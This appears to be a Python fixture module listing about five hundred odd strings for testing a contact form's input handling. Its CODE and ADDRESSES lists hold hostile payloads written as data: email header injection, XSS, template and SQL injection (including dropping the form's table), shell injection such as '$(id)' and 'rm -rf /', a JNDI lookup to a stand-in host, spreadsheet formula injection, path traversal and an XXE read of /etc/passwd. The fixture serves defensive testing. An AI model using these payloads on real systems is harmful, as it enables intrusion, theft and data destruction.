"""Five hundred strings nobody expects in a form, by kind. Lone surrogates stand for the bytes that would make them."""

import itertools

HEADERS = [
    "Bcc: tous@example.com",
    "Subject: autre",
    "To: x@example.com",
    "Content-Type: text/html",
    "From: a@example.com",
]
BREAKS = ["\n", "\r", "\r\n", "\n\n", "\r\n\r\n", "%0a", "%0d%0a", "\u2028", "\u2029", "\x0b", "\x0c", "\x85"]
INJECTIONS = [f"Claire{turn}{header}" for turn, header in itertools.product(BREAKS, HEADERS)]

CONTROLS = [f"a{chr(code)}b" for code in [*range(0x20), *range(0x7F, 0xA0)]]

SPACES = [
    *(f"a{chr(code)}b" for code in [0xA0, 0x1680, *range(0x2000, 0x2010), 0x202F, 0x205F, 0x2060, 0x3000, 0xFEFF, 0x180E]),
    *("", " ", "\t", "\n", "\r\n", "\xa0", "\u3000", "\u200b", "\ufeff", " \t\r\n ", "\u200b" * 50, "  a  b  ", "a\t\tb", "\x00", "\x00\x00 "),
]  # fmt: skip

DIRECTIONS = [
    *(f"a{chr(code)}b" for code in [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]),
    *(
        "\u202eelif.exe",
        "שלום עולם",
        "مرحبا بالعالم",
        "abc \u202bdef\u202c ghi",
        "test\u200f.",
        "\u2067\u202e\u2069x",
        "۱۲۳",
        "ﷺ",
    ),
]

BUILT = [
    *("e\u0301", "é", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L", "a" + "\u0301" * 100, "\u0301seul", "ﬁ", "Ǆ", "ß", "İ", "ı", "ŉ", "Å", "Å", "각", "각", "क्षि", "ก็็็็็็็็"),
    *("👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿", "🇫🇷", "🇫", "☃", "❤️", "©️", "1️⃣", "👩‍", "\u200d", "\ufe0f", "\U000e0041\U000e0042", "🙈" * 60, "\U0010ffff"),
    *("\ufffe", "\uffff", "\U0001fffe", "\U0001ffff", "\ue000", "\U000f0000", "\ufffd", "\ufff9x\ufffay\ufffb", "\u00ad", "a\u034fb", "\u2063"),
    *("раураl", "Ꮯlаirе", "аdmin", "𝓒𝓵𝓪𝓲𝓻𝓮", "Ｃｌａｉｒｅ", "ⒸⓁⒶⒾⓇⒺ", "ℂ𝕝𝕒𝕚𝕣𝕖", "Сlaire", "ϲlaire", "cIaire", "c1aire", "ɔןɐıɹǝ", "⒩", "㎏", "①"),
    *("社會科學院", "Ω≈ç√∫˜µ≤≥÷", "田中さん", "ÅÍÎÏ˝ÓÔÒÚÆ☃", "찦차를 타고", "𠜎𠜱𠝹", "ÿ", "œuvre", "ÆØÅ", "Ł", "ﾊﾟ", "́", "᠎", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤"),
]  # fmt: skip

SURROGATES = [
    *(f"a{chr(code)}b" for code in (0xD800, 0xD83D, 0xDBFF, 0xDC00, 0xDE00, 0xDFFF)),
    *("\ud800", "\udfff\ud800", "\ud83d\ude00", "\ude00\ud83d", "😀\ud83d", "\udc80" * 40),
]

CODE = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</textarea><script>alert(1)</script>", "</title><b>", "<!--", "-->", "<![CDATA[x]]>", "javascript:alert(1)", "<b", "&lt;b&gt;", "&amp;", "&#0;", "&#x202e;", "&eacute;", "<a href='//x.example'>x</a>", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "<iframe srcdoc='&lt;script&gt;'>", "<style>*{}</style>", "<base href=//x.example>", "<meta http-equiv=refresh>", "<svg><script/xlink:href=data:,alert(1)>", "%3Cscript%3E", "\\u003cscript\\u003e"),
    *("{{ 7*7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{% include \"x\" %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__}}", "%(name)s", "%s%s%s%s%n", "%d", "{0}", "{name!r}", "{", "}", "{{", "%", "%%", "${jndi:ldap://x.example/a}", "`id`", "$(id)", "|id", ";id", "&& id", "{{{", "%}", "[[x]]"),
    *("' OR 1=1 --", "'; DROP TABLE contact_inquiry; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "' UNION SELECT NULL--", "\\", "\\\\", "\\'", "''", "'", "\"", "`", "%'", "_", "%_%", "1/0", "NULL", "null", "None", "undefined", "nil", "NaN", "Infinity", "-1", "0", "00", "1e309", "0x0", "1,000", "１２３", "true", "false", "[]", "{}", "[object Object]", "()", "$$x$$", "E'\\\\x41'", "xp_cmdshell", "sleep(5)"),
    *("=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")", "\t=1+1", "\r=1+1", "../../../etc/passwd", "..\\..\\x", "/dev/null", "C:\\x", "file:///etc/passwd", "CON", "con.txt", ".", "..", "/", "//", "~", "*", "?", "a/b", "a\\b", "-rf", "--help", "-", "—", "...", "http://", "https://x.example/?a=1&b=2#c", "mailto:x@example.com", "tel:+33", "data:text/html,x", "x@example.com", "<x@example.com>", "Claire <x@example.com>", "a@example.com, b@example.com", "\"a\" <b@example.com>", "=?utf-8?q?x?=", "=?utf-8?b?QmNjOiB4?=", ":", ";", ",", "()<>@,;:\\\".[]", "Bcc: x@example.com", "X-Y: z"),
    *("Ctrl\u2011C", "ctx[a](b)", "rm -rf /", "\u0000\u0000", "q=1&q=2", "a=b;c=d", "\\n", "\\0", "<?php phpinfo(); ?>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "[url=http://x.example]x[/url]", "\\x00"),
]  # fmt: skip

LONG = [
    *("a" * count for count in (119, 120, 121, 160, 161, 254, 255, 1000, 4999, 5000, 5001, 65_536, 200_000)),
    *("é" * count for count in (120, 121, 160, 161, 5000, 5001)),
    *("😀" * count for count in (120, 121, 160, 161, 5000, 5001)),
    *(sign * 5000 for sign in ("<", "(", "\"", "'", "&", "@", "\u0301", "\u202e", "\x00", "a ", "\r\n", "\n", " ", "ﷺ", "\ud800", "a@", "http://", "{{")),
    *("x" * 119 + tail for tail in (" ", "\r\n", "\u0301", "😀", "&", "<")),
]  # fmt: skip

ADDRESSES = [
    *("a@b", "@", "a@", "@b.example", "a b@c.example", "a@b..example", "a@-b.example", ".a@b.example", "a.@b.example", "a..b@c.example"),
    *("a@b.example\n", "a@b.example\r\nBcc: c@d.example", "a@b.example%0aBcc:c@d.example", "a@b.example,c@d.example", "a@b.example;c@d.example"),
    *("\"a b\"@c.example", "\"a\\\"b\"@c.example", "a@[127.0.0.1]", "a@[IPv6:::1]", "a@localhost", "a@127.0.0.1", "a+b@c.example", "a'b@c.example"),
    *("é@b.example", "a@é.example", "a@xn--9ca.example", "а@b.example", "a@b.exаmple", "\u202ea@b.example", "a\u200b@b.example", "a@b.example\u200b"),
    *("a" * 64 + "@b.example", "a" * 65 + "@b.example", "a@" + "b" * 63 + ".example", "a@" + "b" * 64 + ".example", "a@" + "b." * 120 + "example", "A@B.EXAMPLE", "a@b.example.", "mailto:a@b.example", "<a@b.example>"),
]  # fmt: skip

ALL = {
    "injections": INJECTIONS,
    "controls": CONTROLS,
    "spaces": SPACES,
    "directions": DIRECTIONS,
    "built": BUILT,
    "surrogates": SURROGATES,
    "code": CODE,
    "long": LONG,
    "addresses": ADDRESSES,
}
